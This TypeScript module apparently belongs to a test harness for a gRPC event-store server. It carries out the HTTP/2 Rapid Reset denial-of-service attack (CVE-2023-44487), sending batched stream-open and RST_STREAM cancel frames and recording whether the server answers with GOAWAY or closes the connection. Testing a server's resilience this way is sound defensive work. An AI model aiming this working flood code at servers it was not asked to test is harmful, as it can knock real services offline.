import { create, toBinary } from "@bufbuild/protobuf";
import { GetStreamRequestSchema, SubscribeRequestSchema } from "@annals/protocol";
import { connectRawH2, envelope, errorCode, flag, frame, frameType, grpcHeaders, headerBlock } from "../h2-frames.js";

export interface RapidResetOptions {
  port: number;
  /** Stream open + reset pairs to send on the one connection. */
  pairs: number;
  /** The call each stream opens: a unary `GetStream` or a `Subscribe` to `$all`. */
  call: "GetStream" | "Subscribe";
  /** Pairs per socket write. Default 100. */
  batch?: number;
}

export interface RapidResetResult {
  /** Pairs written before the server closed the connection. */
  sent: number;
  elapsedMs: number;
  /** The GOAWAY's error code, and after how many pairs it came. */
  goaway?: { errorCode: number; afterPairs: number };
  /** Whether the server closed the connection, and after how long (ms from the first pair). */
  closedAfterMs?: number;
}

/**
 * HTTP/2 rapid reset (CVE-2023-44487) on one connection: each stream is opened
 * (HEADERS, then its request message with END_STREAM) and at once reset
 * (RST_STREAM CANCEL), as fast as the socket takes them.
 */
export async function rapidReset(options: RapidResetOptions): Promise<RapidResetResult> {
  const connection = await connectRawH2(options.port);
  const request =
    options.call === "GetStream"
      ? toBinary(GetStreamRequestSchema, create(GetStreamRequestSchema, { stream: "bystander" }))
      : toBinary(SubscribeRequestSchema, create(SubscribeRequestSchema, { target: { case: "all", value: {} } }));
  const block = headerBlock(grpcHeaders(`/annals.eventstore.v1.EventStore/${options.call}`));
  const body = envelope(request);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(errorCode.cancel);
  const batch = options.batch ?? 100;
  const started = performance.now();
  let sent = 0;
  let goaway: RapidResetResult["goaway"];
  let closedAfterMs: number | undefined;
  void connection.closed.then((at) => (closedAfterMs = Math.round(at - started)));
  while (sent < options.pairs && !connection.socket.destroyed) {
    const frames: Buffer[] = [];
    for (let index = 0; index < batch && sent + index < options.pairs; index++) {
      const id = 1 + 2 * (sent + index);
      frames.push(frame(frameType.headers, flag.endHeaders, id, block), frame(frameType.data, flag.endStream, id, body), frame(frameType.rstStream, 0, id, cancel));
    }
    await connection.write(Buffer.concat(frames));
    sent += frames.length / 3;
    const received = connection.goaway();
    if (received && !goaway) goaway = { errorCode: received.errorCode, afterPairs: sent };
  }
  const elapsedMs = Math.round(performance.now() - started);
  // Give the server a moment to answer the last frames and close, then hang up.
  await Promise.race([connection.closed, new Promise((resolve) => setTimeout(resolve, 3_000))]);
  const received = connection.goaway();
  if (received && !goaway) goaway = { errorCode: received.errorCode, afterPairs: sent };
  connection.socket.destroy();
  return { sent, elapsedMs, goaway, closedAfterMs };
}
